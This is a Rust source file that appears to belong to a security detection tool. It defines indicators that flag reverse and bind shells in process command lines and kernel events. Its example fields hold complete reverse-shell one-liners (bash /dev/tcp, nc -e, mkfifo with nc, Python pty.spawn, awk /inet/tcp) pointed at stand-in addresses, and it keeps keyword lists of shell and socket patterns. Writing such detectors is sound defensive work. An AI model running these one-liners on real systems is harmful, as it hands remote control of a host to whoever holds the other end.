//! Shells for somebody else: reverse shells, bind shells, shells on a connection.

use super::kinds::Kinds;
use super::seen::{self, Seen};
use super::words::{self, Part, holds_any, parts};
use super::{Finds, Hit, Indicator};
use crate::analysis::facts::{Direction, Endpoint, Facts};
use crate::cmdline::{Command, Redirect, is_shell};

pub(super) const ROWS: &[Indicator] = &[
    Indicator {
        id: "shell-on-network-device",
        finds: Finds::Kind(Kinds::REDIRECTS, &[], |seen| {
            let device = seen.command.redirections.iter().any(|r| is_network_device(&r.target.text));
            (seen.is_shell() || is_exec_of_shell(seen)) && device && !is_probe(seen)
        }),
        weight: 90,
        techniques: &["T1059.004", "T1071"],
        reason: "A shell's input or output is bash's network device: whoever holds the other end types the commands.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[("proc.cmdline", "bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1")],
        look_alike: &[("proc.cmdline", "bash -c echo > /dev/tcp/127.0.0.1/5432")],
    },
    Indicator {
        id: "network-device-to-outside",
        finds: Finds::Command(&[], |seen| {
            let all = seen.command.redirections.iter().map(|r| r.target.text.as_str());
            seen.may_hold(parts!["/dev/tcp/", "/dev/udp/"])
                && all.chain(seen.args()).any(|text| device_host(text).is_some_and(words::is_public_address))
        }),
        weight: 55,
        techniques: &["T1059.004", "T1071"],
        reason: "Bash's network device is opened to a public address: a probe of a service of yours would name it.",
        refuted_by: "The address belongs to you, and nothing is run from what it sends.",
        example: &[("proc.cmdline", "bash -c exec 3<>/dev/tcp/203.0.113.9/80; echo GET / >&3; cat <&3")],
        look_alike: &[("proc.cmdline", "bash -c exec 3<>/dev/tcp/127.0.0.1/9080; cat <&3")],
    },
    Indicator {
        id: "shell-on-descriptor",
        finds: Finds::Kind(Kinds::REDIRECTS, &[], |seen| {
            let copies = |kind: Redirect| {
                seen.command
                    .redirections
                    .iter()
                    .any(|r| r.kind == kind && r.target.text.parse::<u32>().is_ok_and(|n| n >= 3))
            };
            seen.is_shell() && copies(Redirect::CopyInput) && copies(Redirect::CopyOutput)
        }),
        weight: 85,
        techniques: &["T1059.004"],
        reason: "A shell takes its commands from an opened descriptor and answers into it: it is operated by the other end.",
        refuted_by: "A script that talks to a coprocess of its own.",
        example: &[("proc.cmdline", "bash -c exec 5<>/dev/tcp/10.0.0.9/4444; sh <&5 >&5 2>&5")],
        look_alike: &[("proc.cmdline", "bash -c sh run.sh 2>&1")],
    },
    Indicator {
        id: "netcat-runs-program",
        finds: Finds::Command(&["nc", "busybox", "socat", "cryptcat", "pwncat", "powercat"], netcat_runs),
        weight: 90,
        techniques: &["T1059.004", "T1095"],
        reason: "A network tool is told to start a program for its peer: a remote shell.",
        refuted_by: "Nothing that is known to be harmless does this in production.",
        example: &[("proc.cmdline", "nc 198.51.100.7 4444 -e /bin/sh")],
        look_alike: &[("proc.cmdline", "nc -zv localhost 8500")],
    },
    Indicator {
        id: "shell-piped-to-network",
        finds: Finds::Kind(Kinds::FEEDS, &[], |seen| {
            seen.runs_input() && seen.feeds(is_relay) || is_relay(seen.command) && seen.feeds(seen::runs_input)
        }),
        weight: 85,
        techniques: &["T1059.004", "T1095"],
        reason: "A shell is tied to a network tool by pipes: whoever holds the other end types the commands.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[(
            "proc.cmdline",
            "sh -c mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 9001 > /tmp/f",
        )],
        look_alike: &[("proc.cmdline", "sh -c echo ruok | nc 127.0.0.1 2181")],
    },
    Indicator {
        id: "language-remote-shell",
        finds: Finds::Kind(Kinds::CODE, &[], |seen| {
            seen.code()
                .is_some_and(|(_, code)| holds_any(code, CONNECTS) && holds_any(code, SHELLS) && holds_any(code, BINDS))
        }),
        weight: 90,
        techniques: &["T1059.006", "T1059.004", "T1095"],
        reason: "A one-line program connects a socket to a shell: a remote shell without any tool.",
        refuted_by: "Nothing that is known to be harmless does this.",
        example: &[(
            "proc.cmdline",
            "python3 -c import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/bash\")",
        )],
        look_alike: &[("proc.cmdline", "python3 -c import socket;s=socket.socket();s.connect((\"db\",5432))")],
    },
    Indicator {
        id: "awk-network-shell",
        finds: Finds::Command(&["awk"], |seen| {
            seen.any_arg(|arg| arg.contains("/inet/tcp/") || arg.contains("/inet/udp/"))
                || seen.code().is_some_and(|(_, code)| code.contains("/inet/tcp/") || code.contains("/inet/udp/"))
        }),
        weight: 80,
        techniques: &["T1059.004"],
        reason: "awk opens a network connection, which serves remote shells and hardly anything else.",
        refuted_by: "A script of yours that is written so.",
        example: &[(
            "proc.cmdline",
            "awk BEGIN {s = \"/inet/tcp/0/198.51.100.7/4242\"; while(1) {s |& getline c; while ((c |& getline) > 0) print $0 |& s}}",
        )],
        look_alike: &[("proc.cmdline", "awk {print $1} /etc/hosts")],
    },
    Indicator {
        id: "interactive-shell-without-terminal",
        finds: Finds::Facts(|facts| {
            if facts.process.on_terminal != Some(false) {
                return None;
            }
            let interactive = |text: &str| {
                let mut words = text.split_ascii_whitespace();
                let shell = words.next().is_some_and(|word| is_shell(crate::cmdline::base_name(word)));
                shell
                    && words
                        .take_while(|word| word.starts_with('-') && !word.contains('c'))
                        .any(|word| matches!(word, "-i" | "-li" | "-il"))
            };
            let own = facts.process.program.cmdline.filter(|text| interactive(text)).map(|text| ("proc.cmdline", text));
            let parent = facts.parent.cmdline.filter(|text| interactive(text)).map(|text| ("proc.pcmdline", text));
            own.or(parent).and_then(|(field, text)| Hit::of(field, text))
        }),
        weight: 45,
        techniques: &["T1059.004"],
        reason: "A shell was told to be interactive and has no terminal: its user is at the other end of a pipe or a socket.",
        refuted_by: "A tool of yours that drives a shell by pipes (an IDE's remote agent).",
        example: &[("proc.cmdline", "bash -i"), ("proc.tty", "0")],
        look_alike: &[("proc.cmdline", "bash -i"), ("proc.tty", "34816")],
    },
    Indicator {
        id: "shell-stdio-on-outside-connection",
        finds: Finds::Facts(|facts| stdio_on_connection(facts, true)),
        weight: 78,
        techniques: &["T1059.004", "T1095"],
        reason: "A shell's or interpreter's input or output was put on a connection to a public address: a reverse shell.",
        refuted_by: "The address belongs to you, and the program is a server that hands connections to scripts.",
        example: &[
            ("rule", "Redirect STDOUT/STDIN to Network Connection in Container"),
            ("evt.type", "dup2"),
            ("proc.name", "bash"),
            ("proc.cmdline", "bash"),
            ("fd.name", "10.0.0.5:1->198.51.100.7:9001"),
        ],
        look_alike: &[
            ("rule", "Redirect STDOUT/STDIN to Network Connection in Container"),
            ("evt.type", "dup2"),
            ("proc.name", "bash"),
            ("proc.cmdline", "bash"),
            ("fd.name", "127.0.0.1:1->127.0.0.1:9080"),
        ],
    },
    Indicator {
        id: "shell-stdio-on-inside-connection",
        finds: Finds::Facts(|facts| stdio_on_connection(facts, false)),
        weight: 40,
        techniques: &["T1059.004", "T1095"],
        reason: "A shell's or interpreter's input or output was put on a network connection: a remote shell, from inside the network.",
        refuted_by: "A server (inetd, a CGI host) that hands its connections to scripts.",
        example: &[
            ("rule", "Redirect STDOUT/STDIN to Network Connection in Container"),
            ("evt.type", "dup2"),
            ("proc.name", "sh"),
            ("proc.cmdline", "sh"),
            ("fd.name", "10.0.0.5:1->10.0.0.7:9001"),
        ],
        look_alike: &[
            ("rule", "Redirect STDOUT/STDIN to Network Connection in Container"),
            ("evt.type", "dup2"),
            ("proc.name", "nginx"),
            ("proc.cmdline", "nginx"),
            ("fd.name", "10.0.0.5:1->10.0.0.7:9001"),
        ],
    },
    Indicator {
        id: "shell-talks-to-network",
        finds: Finds::Facts(|facts| {
            let shell = facts.process.program.name.is_some_and(is_shell);
            let connection = facts.connection?;
            let remote = connection.remote()?;
            let calls = matches!(connection.direction, Some(Direction::Outbound)) && !is_stdio_event(facts);
            (shell && calls && words::is_public_address(remote.address) && remote.port != Some(53))
                .then(|| Hit::of(connection.field, facts.get(connection.field).unwrap_or(remote.address)))
                .flatten()
        }),
        weight: 60,
        techniques: &["T1059.004", "T1071"],
        reason: "A shell itself opens a connection to a public address; shells leave that to tools unless they are operated from there.",
        refuted_by: "The address belongs to you and a script of yours probes it by /dev/tcp.",
        example: &[("evt.type", "connect"), ("proc.name", "bash"), ("fd.name", "10.0.0.5:1->198.51.100.7:443")],
        look_alike: &[("evt.type", "connect"), ("proc.name", "curl"), ("fd.name", "10.0.0.5:1->198.51.100.7:443")],
    },
    Indicator {
        id: "remote-display-shell",
        finds: Finds::Command(&["xterm"], |seen| {
            seen.value_of(&["-display"]).is_some_and(|display| !display.starts_with(':'))
        }),
        weight: 72,
        techniques: &["T1059"],
        reason: "A terminal window is opened on another machine's display: an old form of reverse shell.",
        refuted_by: "Nobody does this in production.",
        example: &[("proc.cmdline", "xterm -display 198.51.100.7:1")],
        look_alike: &[("proc.cmdline", "xterm -display :0")],
    },
];

/// Texts by which code opens a connection.
const CONNECTS: &[Part<'_>] = parts![
    "socket",
    "fsockopen",
    "TCPSocket",
    "net.connect",
    "net.Socket",
    "pfsockopen",
    "TCPClient",
    "TcpStream",
    "LuaSocket",
    "stream_socket_client",
    "IO::Socket",
    "createConnection",
    "net.createServer",
];
/// Texts by which code names a shell or a way to start a program.
const SHELLS: &[Part<'_>] = parts![
    "/bin/sh",
    "/bin/bash",
    "/bin/ash",
    "'sh'",
    "\"sh\"",
    "bash -i",
    "sh -i",
    "cmd.exe",
    "pty.spawn",
    "child_process",
    "os.execute",
    "io.popen",
    "proc_open",
    "shell_exec",
    "passthru",
    "subprocess",
    "exec(",
    "system(",
    "`sh",
];
/// Texts by which code ties the two together.
const BINDS: &[Part<'_>] = parts![
    "dup2",
    "pty.spawn",
    "subprocess",
    "exec",
    "STDIN",
    "spawn",
    "popen",
    ".pipe(",
    "proc_open",
    "system",
    "<&3",
    "$stdin",
    "reopen",
    "fileno",
];

fn is_network_device(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}

/// The host of a `/dev/tcp/host/port` in a word.
fn device_host(text: &str) -> Option<&str> {
    let at = text.find("/dev/tcp/").or_else(|| text.find("/dev/udp/"))?;
    text[at + "/dev/tcp/".len()..].split('/').next()
}

/// `exec 5<>/dev/tcp/...` opens the device for the shell that runs it; only with a shell behind it is it one.
fn is_exec_of_shell(seen: &Seen<'_, '_>) -> bool {
    seen.command.has_wrapper("exec") && seen.is_shell()
}

/// A shell that only reads an answer: its redirections are to a local service and it has a command of its own.
fn is_probe(seen: &Seen<'_, '_>) -> bool {
    let local = |text: &str| device_host(text).is_none_or(|host| Endpoint { address: host, port: None }.is_loopback());
    seen.command.has_arg("-c") && seen.command.redirections.iter().all(|r| local(&r.target.text))
}

fn netcat_runs(seen: &Seen<'_, '_>) -> bool {
    if seen.name == "socat" {
        let runs = |arg: &str| {
            let arg = arg.to_ascii_uppercase();
            arg.starts_with("EXEC:")
                || arg.starts_with("SYSTEM:")
                || arg.contains(",EXEC:")
                || arg.starts_with("SHELL:")
        };
        let network = |arg: &str| holds_any(arg, parts!["TCP", "UDP", "OPENSSL", "SCTP", "VSOCK"]);
        return seen.any_arg(runs) && seen.any_arg(network);
    }
    let named =
        |value: &str| is_shell(crate::cmdline::base_name(value)) || value.starts_with('/') || value == "cmd.exe";
    let mut args = seen.args();
    while let Some(arg) = args.next() {
        let runs = matches!(arg, "--exec" | "--sh-exec" | "--lua-exec")
            || (arg.starts_with('-') && !arg.starts_with("--") && arg.ends_with(['e', 'c']) && arg.len() <= 8);
        if runs && args.clone().next().is_some_and(named) {
            return true;
        }
        if arg.starts_with("--exec=") || arg.starts_with("--sh-exec=") {
            return true;
        }
    }
    false
}

/// A tool that carries bytes between its standard streams and the network.
fn is_relay(command: &Command) -> bool {
    match command.family() {
        "nc" | "telnet" | "cryptcat" | "socat" | "pwncat" => command.args().len() >= 2 && !command.has_option('z', ""),
        "openssl" => command.has_arg("s_client") || command.has_arg("s_server"),
        _ => false,
    }
}

fn is_stdio_event(facts: &Facts<'_>) -> bool {
    facts.event.kind.is_some_and(|kind| kind.starts_with("dup"))
        || facts.alert.rule().starts_with("Redirect STDOUT/STDIN")
}

fn stdio_on_connection(facts: &Facts<'_>, outside: bool) -> Option<Hit> {
    let connection = facts.connection.filter(|_| is_stdio_event(facts))?;
    let name = crate::cmdline::program_family(facts.process.program.name?);
    let operated =
        is_shell(name) || matches!(name, "python" | "perl" | "ruby" | "php" | "nc" | "socat" | "lua" | "busybox");
    let ends = [connection.server, connection.client];
    let public = ends.iter().flatten().any(|end| words::is_public_address(end.address));
    let loopback = ends.iter().flatten().all(Endpoint::is_loopback);
    if !operated || loopback || public != outside {
        return None;
    }
    Hit::of(connection.field, facts.get(connection.field)?)
}
